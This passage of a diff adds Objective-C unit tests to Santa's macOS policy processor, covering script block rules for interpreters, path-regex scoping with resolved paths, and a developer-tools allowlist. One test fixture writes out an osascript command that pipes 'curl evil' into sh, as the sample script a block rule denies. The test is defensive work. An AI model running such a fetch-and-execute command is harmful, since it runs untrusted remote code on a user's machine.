+  XCTAssertEqual(cd.decision, SNTEventStateAllowBinary);
+  XCTAssertFalse(cd.holdAndAsk);
+
+  // An interpreter blocked by its own rule stays blocked.
+  cd = [[SNTCachedDecision alloc] init];
+  cd.decision = SNTEventStateBlockSigningID;
+  XCTAssertFalse([processor applyScriptRuleForScript:script decision:cd]);
+  XCTAssertEqual(cd.decision, SNTEventStateBlockSigningID);
+}
+
+- (void)testInterpreterScriptRuleBlocksScriptButNotInterpreter {
+  SNTRuleTable* ruleTable =
+      [[SNTRuleTable alloc] initWithDatabaseQueue:[[FMDatabaseQueue alloc] init]];
+  SNTPolicyProcessor* processor =
+      [[SNTPolicyProcessor alloc] initWithRuleTable:ruleTable
+                                 entitlementsFilter:santa::EntitlementsFilter::Create(@[], @[])];
+
+  auto blockedScript = santa::ParseInterpreterScript(
+      "osascript", {"osascript", "-e", "do shell script \"curl evil | sh\""}, "/");
+  auto otherScript =
+      santa::ParseInterpreterScript("osascript", {"osascript", "-e", "beep"}, "/");
+  XCTAssertTrue(blockedScript.has_value() && otherScript.has_value());
+  NSString* blockedSHA256 =
+      @(santa::InterpreterScriptSourceSHA256(*blockedScript->source).c_str());
+  NSString* otherSHA256 = @(santa::InterpreterScriptSourceSHA256(*otherScript->source).c_str());
+
+  SNTRule* rule = [[SNTRule alloc] initWithIdentifier:blockedSHA256
+                                                state:SNTRuleStateBlock
+                                                 type:SNTRuleTypeBinary
+                                            customMsg:nil
+                                            customURL:nil
+                                              celExpr:nil
+                                       seatbeltPolicy:nil
+                                               ruleId:9];
+  XCTAssertTrue([ruleTable addExecutionRules:@[ rule ] ruleCleanup:SNTRuleCleanupNone errors:nil]);
+
+  // The interpreter is allowed, as is any script without a rule.
+  SNTCachedDecision* cd = [self interpreterDecisionWithProcessor:processor];
+  XCTAssertEqual(cd.decision, SNTEventStateAllowPlatform);
+  XCTAssertFalse([processor applyScriptRuleForScriptSHA256:otherSHA256 decision:cd]);
+  XCTAssertEqual(cd.decision, SNTEventStateAllowPlatform);
+  XCTAssertEqualObjects(cd.scriptSHA256, otherSHA256);
+  XCTAssertFalse(cd.cacheable);
+
+  // The blocked script is denied even though its interpreter is allowed.
+  cd = [self interpreterDecisionWithProcessor:processor];
+  XCTAssertTrue([processor applyScriptRuleForScriptSHA256:blockedSHA256 decision:cd]);
+  XCTAssertEqual(cd.decision, SNTEventStateBlockBinary);
+  XCTAssertEqualObjects(cd.scriptSHA256, blockedSHA256);
+  XCTAssertEqual(cd.ruleId, 9LL);
+  XCTAssertFalse(cd.cacheable);
+
+  // A script that couldn't be found keeps the interpreter's decision.
+  cd = [self interpreterDecisionWithProcessor:processor];
+  XCTAssertFalse([processor applyScriptRuleForScriptSHA256:nil decision:cd]);
+  XCTAssertEqual(cd.decision, SNTEventStateAllowPlatform);
 }
 
-#pragma mark fileIsScopeAllowed:/fileIsScopeBlocked:
+#pragma mark fileIsScopeAllowed:resolvedPath:/fileIsScopeBlocked:resolvedPath:
 
 // /bin/ls is an Apple-signed Mach-O executable (with a __PAGEZERO segment)
 // present on every macOS host, so it exercises the Mach-O and page-zero paths
@@ -1715,7 +3116,7 @@ BOOL RuleIdentifiersAreEqual(struct RuleIdentifiers r1, struct RuleIdentifiers r
 
   // No allowed-path regex: a Mach-O must not be reported as allowed-by-path.
   // (Guards against a nil regex being treated as a match.)
-  XCTAssertNil([self.processor fileIsScopeAllowed:[self lsFileInfo]]);
+  XCTAssertNil([self.processor fileIsScopeAllowed:[self lsFileInfo] resolvedPath:nil]);
 
   [mockConfigurator stopMocking];
 }
@@ -1726,7 +3127,7 @@ BOOL RuleIdentifiersAreEqual(struct RuleIdentifiers r1, struct RuleIdentifiers r
       .andReturn([NSRegularExpression regularExpressionWithPattern:@"^/bin/" options:0 error:NULL]);
   self.processor.configurator = mockConfigurator;
 
-  XCTAssertEqualObjects([self.processor fileIsScopeAllowed:[self lsFileInfo]],
+  XCTAssertEqualObjects([self.processor fileIsScopeAllowed:[self lsFileInfo] resolvedPath:nil],
                         @"Allowed Path Regex");
 
   [mockConfigurator stopMocking];
@@ -1740,7 +3141,7 @@ BOOL RuleIdentifiersAreEqual(struct RuleIdentifiers r1, struct RuleIdentifiers r
 
   // No blocked-path regex: a normal Mach-O must not be reported as
   // blocked-by-path. (Guards against a nil regex being treated as a match.)
-  XCTAssertNil([self.processor fileIsScopeBlocked:[self lsFileInfo]]);
+  XCTAssertNil([self.processor fileIsScopeBlocked:[self lsFileInfo] resolvedPath:nil]);
 
   [mockConfigurator stopMocking];
 }
@@ -1751,10 +3152,99 @@ BOOL RuleIdentifiersAreEqual(struct RuleIdentifiers r1, struct RuleIdentifiers r
       .andReturn([NSRegularExpression regularExpressionWithPattern:@"^/bin/" options:0 error:NULL]);
   self.processor.configurator = mockConfigurator;
 
-  XCTAssertEqualObjects([self.processor fileIsScopeBlocked:[self lsFileInfo]],
+  XCTAssertEqualObjects([self.processor fileIsScopeBlocked:[self lsFileInfo] resolvedPath:nil],
+                        @"Blocked Path Regex");
+
+  [mockConfigurator stopMocking];
+}
+
+- (void)testFileIsScopeAllowedMatchesResolvedPath {
+  id mockConfigurator = OCMClassMock([SNTConfigurator class]);
+  OCMStub([mockConfigurator allowedPathRegex])
+      .andReturn([NSRegularExpression regularExpressionWithPattern:@"^/Applications/"
+                                                           options:0
+                                                             error:NULL]);
+  self.processor.configurator = mockConfigurator;
+
+  // The raw path doesn't match, but the resolved path (e.g. the original
+  // location of a translocated app) does.
+  XCTAssertNil([self.processor fileIsScopeAllowed:[self lsFileInfo] resolvedPath:nil]);
+  XCTAssertEqualObjects([self.processor fileIsScopeAllowed:[self lsFileInfo]
+                                              resolvedPath:@"/Applications/Foo.app/Contents/"
+                                                           @"MacOS/Foo"],
+                        @"Allowed Path Regex");
+
+  [mockConfigurator stopMocking];
+}
+
+- (void)testFileIsScopeBlockedMatchesResolvedPath {
+  id mockConfigurator = OCMClassMock([SNTConfigurator class]);
+  OCMStub([mockConfigurator blockedPathRegex])
+      .andReturn([NSRegularExpression regularExpressionWithPattern:@"^/Users/Shared/"
+                                                           options:0
+                                                             error:NULL]);
+  OCMStub([mockConfigurator enablePageZeroProtection]).andReturn(NO);
+  self.processor.configurator = mockConfigurator;
+
+  XCTAssertNil([self.processor fileIsScopeBlocked:[self lsFileInfo] resolvedPath:nil]);
+  XCTAssertEqualObjects([self.processor fileIsScopeBlocked:[self lsFileInfo]
+                                              resolvedPath:@"/Users/Shared/tool"],
                         @"Blocked Path Regex");
 
   [mockConfigurator stopMocking];
 }
 
+#pragma mark applyDeveloperToolsPolicy:
+
+- (SNTCachedDecision*)decisionWithTeamID:(NSString*)teamID signingID:(NSString*)signingID {
+  SNTCachedDecision* cd = [[SNTCachedDecision alloc] init];
+  cd.teamID = teamID;
+  cd.signingID = signingID;
+  return cd;
+}
+
+- (void)testDeveloperToolsPolicyDisabledByDefault {
+  id mockConfigurator = OCMClassMock([SNTConfigurator class]);
+  OCMStub([mockConfigurator enableDeveloperToolsAllowlist]).andReturn(NO);
+  OCMStub([mockConfigurator developerToolsAllowlist]).andReturn(@[ @"2ZEFAR8TH3" ]);
+  self.processor.configurator = mockConfigurator;
+
+  SNTCachedDecision* cd = [self decisionWithTeamID:@"2ZEFAR8TH3"
+                                         signingID:@"2ZEFAR8TH3:com.jetbrains.goland"];
+  XCTAssertFalse([self.processor applyDeveloperToolsPolicy:cd]);
+  XCTAssertEqual(cd.decision, SNTEventStateUnknown);
+
+  [mockConfigurator stopMocking];
+}
+
+- (void)testDeveloperToolsPolicyAllowsListedIdentities {
+  id mockConfigurator = OCMClassMock([SNTConfigurator class]);
+  OCMStub([mockConfigurator enableDeveloperToolsAllowlist]).andReturn(YES);
+  OCMStub([mockConfigurator developerToolsAllowlist]).andReturn(@[
+    @"2ZEFAR8TH3", @"UBF8T346G9:com.microsoft.VSCode"
+  ]);
+  self.processor.configurator = mockConfigurator;
+
+  // A listed Team ID allows every binary from that team.
+  SNTCachedDecision* cd = [self decisionWithTeamID:@"2ZEFAR8TH3"
+                                         signingID:@"2ZEFAR8TH3:com.jetbrains.goland"];
+  XCTAssertTrue([self.processor applyDeveloperToolsPolicy:cd]);
+  XCTAssertEqual(cd.decision, SNTEventStateAllowTeamID);
+  XCTAssertEqualObjects(cd.decisionExtra, @"Developer Tools");
+
+  // A listed Signing ID only allows that binary, not the rest of the team.
+  cd = [self decisionWithTeamID:@"UBF8T346G9" signingID:@"UBF8T346G9:com.microsoft.VSCode"];
+  XCTAssertTrue([self.processor applyDeveloperToolsPolicy:cd]);
+  XCTAssertEqual(cd.decision, SNTEventStateAllowSigningID);
+
+  cd = [self decisionWithTeamID:@"UBF8T346G9" signingID:@"UBF8T346G9:com.microsoft.Word"];
+  XCTAssertFalse([self.processor applyDeveloperToolsPolicy:cd]);
+
+  // Unsigned binaries have no identity to match.
+  cd = [self decisionWithTeamID:nil signingID:nil];
+  XCTAssertFalse([self.processor applyDeveloperToolsPolicy:cd]);
+
+  [mockConfigurator stopMocking];
+}
+
 @end